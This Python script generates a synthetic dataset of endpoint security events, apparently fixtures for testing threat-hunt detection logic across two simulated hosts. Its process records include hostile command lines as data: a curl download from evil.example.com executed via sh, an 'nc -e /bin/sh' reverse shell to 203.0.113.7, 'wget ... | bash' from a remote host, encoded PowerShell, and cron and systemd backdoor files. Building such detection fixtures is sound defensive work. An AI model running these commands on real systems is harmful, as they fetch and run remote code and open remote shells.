#!/usr/bin/env python3
"""Writes basic.jsonl, the dataset of the hunt logic tests (kept so the data can be regenerated).

Two hosts: h1 (ssh -> bash -> curl | sh -> x.sh -> nc reverse shell; cron -> bash -> tar backup)
and h2 (python3 http.server -> wget | bash, bash -> PowerShell/ls/ab), with their network, DNS,
file, persistence, authentication and alert events. Times are seconds after 2024-01-01T00:00Z.
"""
import json


def ts(sec):
    m, s = divmod(sec, 60)
    whole = int(s)
    frac = round((s - whole) * 1000)
    return f"2024-01-01T00:{int(m):02d}:{whole:02d}.{frac:03d}Z"


H = {"h1": "web-1", "h2": "dev-2"}
ev = []


def proc(t, host, pid, eid, ppid, peid, name, exe, cmd, user="root", action="exec", pname=None, pcmd=None, **kw):
    e = {"@timestamp": ts(t), "event.category": "process", "event.type": "start", "event.action": action,
         "host.id": host, "host.name": H[host], "process.entity_id": eid, "process.pid": pid,
         "process.name": name, "process.executable": exe, "process.command_line": cmd,
         "process.args": cmd.split(" "), "process.args_count": len(cmd.split(" ")), "user.name": user}
    if peid:
        e["process.parent.entity_id"] = peid
        e["process.parent.pid"] = ppid
    if pname:
        e["process.parent.name"] = pname
    if pcmd:
        e["process.parent.command_line"] = pcmd
    e.update(kw)
    ev.append(e)


def other(cat, t, host, eid, pid, **kw):
    e = {"@timestamp": ts(t), "event.category": cat, "host.id": host, "host.name": H[host],
         "process.entity_id": eid, "process.pid": pid}
    e.update(kw)
    ev.append(e)


proc(0, "h1", 1, "p1", 0, None, "systemd", "/usr/lib/systemd/systemd", "/sbin/init")
proc(1, "h1", 100, "p100", 1, "p1", "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D", pname="systemd", pcmd="/sbin/init")
proc(5, "h1", 300, "p300", 1, "p1", "cron", "/usr/sbin/cron", "/usr/sbin/cron -f", pname="systemd", pcmd="/sbin/init")
proc(10, "h1", 200, "p200", 100, "p100", "bash", "/usr/bin/bash", "-bash", user="alice", pname="sshd", pcmd="/usr/sbin/sshd -D")
proc(20, "h1", 201, "p201", 200, "p200", "curl", "/usr/bin/curl", "curl -s http://evil.example.com/x.sh -o /tmp/x.sh", user="alice", pname="bash", pcmd="-bash")
proc(21, "h1", 202, "p202", 200, "p200", "sh", "/usr/bin/sh", "sh -c chmod +x /tmp/x.sh && /tmp/x.sh", user="alice", pname="bash", pcmd="-bash")
proc(22, "h1", 201, "p201", 200, "p200", "curl", "/usr/bin/curl", "curl -s http://evil.example.com/x.sh -o /tmp/x.sh", user="alice", action="exit", pname="bash", **{"event.type": "end", "process.exit_code": 0})
proc(25, "h1", 203, "p203", 202, "p202", "x.sh", "/tmp/x.sh", "/tmp/x.sh --beacon", user="alice", pname="sh", pcmd="sh -c chmod +x /tmp/x.sh && /tmp/x.sh", **{"process.hash.sha256": "a3f1" + "0" * 60})
proc(30, "h1", 204, "p204", 203, "p203", "nc", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444", user="alice", pname="x.sh", pcmd="/tmp/x.sh --beacon", **{"process.hash.sha256": "b7c2" + "0" * 60})
proc(40, "h1", 301, "p301", 300, "p300", "bash", "/usr/bin/bash", "/bin/bash -c /opt/backup.sh", pname="cron", pcmd="/usr/sbin/cron -f")
proc(41, "h1", 302, "p302", 301, "p301", "tar", "/usr/bin/tar", "tar czf /var/backups/home.tgz /home", pname="bash", pcmd="/bin/bash -c /opt/backup.sh")
proc(50, "h2", 400, "q400", 0, None, "python3", "/usr/bin/python3", "python3 -m http.server 8080", user="bob")
proc(55, "h2", 401, "q401", 400, "q400", "wget", "/usr/bin/wget", "wget -q -O- http://198.51.100.9/payload | bash", user="bob", pname="python3", pcmd="python3 -m http.server 8080")
proc(56, "h2", 402, "q402", 400, "q400", "bash", "/usr/bin/bash", "bash", user="bob", pname="python3", pcmd="python3 -m http.server 8080")
proc(60, "h2", 500, "q500", 402, "q402", "PowerShell.EXE", "/opt/pwsh/PowerShell.EXE", "PowerShell.EXE -enc SQBFAFgA", user="bob", pname="bash", pcmd="bash")
proc(61, "h2", 501, "q501", 402, "q402", "ls", "/usr/bin/ls", "ls /tmp/café_50%", user="bob", pname="bash", pcmd="bash")
proc(62, "h2", 502, "q502", 402, "q402", "ab", "/usr/bin/ab", "ab", user="bob", pname="bash", pcmd="bash")

net = dict(**{"event.action": "connect", "event.type": "connection", "network.transport": "tcp", "network.direction": "egress"})
other("network", 20.5, "h1", "p201", 201, **net, **{"process.name": "curl", "source.ip": "10.0.0.5", "source.port": 40000, "destination.ip": "93.184.216.34", "destination.port": 80, "destination.domain": "evil.example.com", "vigil.destination.external": True})
other("network", 31, "h1", "p204", 204, **net, **{"process.name": "nc", "source.ip": "10.0.0.5", "source.port": 40001, "destination.ip": "203.0.113.7", "destination.port": 4444, "vigil.destination.external": True})
other("network", 9, "h1", "p100", 100, **{**net, "event.action": "accept", "network.direction": "ingress"}, **{"process.name": "sshd", "source.ip": "10.0.0.9", "source.port": 51000, "destination.ip": "10.0.0.5", "destination.port": 22, "vigil.destination.external": False})
other("network", 55.5, "h2", "q401", 401, **net, **{"process.name": "wget", "source.ip": "10.1.0.7", "source.port": 50500, "destination.ip": "198.51.100.9", "destination.port": 80, "vigil.destination.external": True})
other("network", 57, "h2", "q402", 402, **net, **{"process.name": "bash", "source.ip": "10.1.0.7", "source.port": 50501, "destination.ip": "192.168.1.10", "destination.port": 443, "vigil.destination.external": False})
other("network", 26, "h1", "p203", 203, **net, **{"process.name": "x.sh", "source.ip": "2001:db8::5", "source.port": 40002, "destination.ip": "2001:db8::1", "destination.port": 443, "vigil.destination.external": True})
other("dns", 19, "h1", "p201", 201, **{"event.action": "query", "process.name": "curl", "dns.question.name": "evil.example.com", "dns.question.type": "A", "dns.resolved_ip": ["93.184.216.34", "2606:2800:220:1::"]})
other("dns", 54, "h2", "q401", 401, **{"event.action": "query", "process.name": "wget", "dns.question.name": "payload.example.org", "dns.question.type": "A", "dns.resolved_ip": ["198.51.100.9"]})
other("dns", 24, "h1", "p203", 203, **{"event.action": "query", "process.name": "x.sh", "dns.question.name": "c2.evil.example.com", "dns.question.type": "A", "dns.resolved_ip": ["203.0.113.7"]})
other("file", 20.8, "h1", "p201", 201, **{"event.action": "creation", "event.type": "creation", "process.name": "curl", "file.path": "/tmp/x.sh", "file.name": "x.sh", "file.hash.sha256": "a3f1" + "0" * 60, "file.size": 4096})
other("file", 21.5, "h1", "p202", 202, **{"event.action": "chmod", "event.type": "change", "process.name": "sh", "file.path": "/tmp/x.sh", "file.name": "x.sh", "file.mode": "0755"})
other("file", 42, "h1", "p302", 302, **{"event.action": "creation", "event.type": "creation", "process.name": "tar", "file.path": "/var/backups/home.tgz", "file.name": "home.tgz", "file.size": 1048576})
other("file", 58, "h2", "q402", 402, **{"event.action": "modification", "event.type": "change", "process.name": "bash", "file.path": "/home/bob/.bashrc", "file.name": ".bashrc", "file.size": 3771})
other("persistence", 23, "h1", "p202", 202, **{"event.action": "creation", "process.name": "sh", "file.path": "/etc/cron.d/evil", "file.name": "evil", "vigil.persistence.mechanism": "cron"})
other("persistence", 63, "h2", "q402", 402, **{"event.action": "creation", "process.name": "bash", "file.path": "/etc/systemd/system/backdoor.service", "file.name": "backdoor.service", "vigil.persistence.mechanism": "systemd"})
other("authentication", 7, "h1", "p100", 100, **{"event.action": "ssh_login", "event.outcome": "failure", "user.name": "root", "source.ip": "10.0.0.9"})
other("authentication", 8, "h1", "p100", 100, **{"event.action": "ssh_login", "event.outcome": "success", "user.name": "alice", "source.ip": "10.0.0.9", "Logon.Type": "ssh"})
other("alert", 32, "h1", "p204", 204, **{"rule.name": "Reverse shell", "rule.id": "R-7", "event.severity": 73, "threat.technique.id": ["T1059", "T1071"]})

ev.sort(key=lambda e: e["@timestamp"])
with open("basic.jsonl", "w") as f:
    f.write("# Generated by gen_basic.py.\n")
    for e in ev:
        f.write(json.dumps(e, ensure_ascii=False) + "\n")
print(len(ev), "events")
